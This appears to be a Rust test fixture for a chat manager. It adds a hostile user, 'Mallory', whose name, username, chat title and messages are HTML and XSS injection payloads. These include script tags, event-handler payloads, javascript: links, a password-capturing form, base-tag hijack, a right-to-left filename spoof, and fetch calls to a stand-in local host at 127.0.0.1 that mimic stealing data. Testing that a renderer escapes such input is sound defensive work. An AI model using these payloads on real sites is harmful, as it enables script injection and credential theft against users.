//! Somebody who writes markup, to see who runs it.

use uuid::Uuid;

use super::uuid;
use crate::{
    chat_manager::{
        events::{FORMATTED, formatted},
        world::{Chat, Member, Message, Stay, Title, User, content},
    },
    clock::plus_seconds,
    rng::Rng,
};

const LINES: &[&str] = &[
    "<script>document.title='owned';fetch('http://127.0.0.1:9/steal')</script>",
    "<img src=x onerror=\"window.owned=1\">",
    "</style></table><iframe src=\"javascript:parent.owned=1\"></iframe>",
    "<a href=\"javascript:window.owned=1\">su factura</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/gone\">",
    "<form action=\"http://127.0.0.1:9/form\"><input name=password autofocus onfocus=\"window.owned=1\"></form>",
    "<svg onload=\"window.owned=1\"><style>@import 'http://127.0.0.1:9/x.css';</style></svg>",
    "<base href=\"http://127.0.0.1:9/\"><link rel=stylesheet href=x.css>",
    "\u{202e}fdp.exe \u{0}\u{7} <b>negrita</b> &amp;lt;script&amp;gt;",
];

pub(super) fn user(id: Uuid) -> User {
    User {
        id,
        firstname: Some("<script>window.owned=1</script>Mallory".to_owned()),
        username: Some("mallory\"><img src=x onerror=window.owned=1>".to_owned()),
    }
}

/// Gives a chat the joker, and a title of the same kind.
pub(super) fn dress(chat: &mut Chat, joker: Uuid) {
    let at = plus_seconds(chat.registered_at, 60);
    chat.members.push(Member {
        user: joker,
        stays: vec![Stay {
            joined_at: at,
            left_at: None,
            invited_by: None,
        }],
    });
    chat.titles.push(Title {
        value: "Finca <b onmouseover=\"window.owned=1\">nº 12</b>".to_owned(),
        at: chat.plan.last_at,
    });
}

pub(super) fn messages(rng: &mut Rng, chat: &Chat, joker: Uuid) -> Vec<Message> {
    let at = plus_seconds(chat.plan.last_at, 5);
    LINES
        .iter()
        .map(|line| Message {
            id: uuid(rng),
            by: joker,
            at,
            deleted: false,
            pinned: false,
            contents: vec![content(rng, FORMATTED, Some(formatted(line)), at)],
            captured_at: at,
        })
        .collect()
}
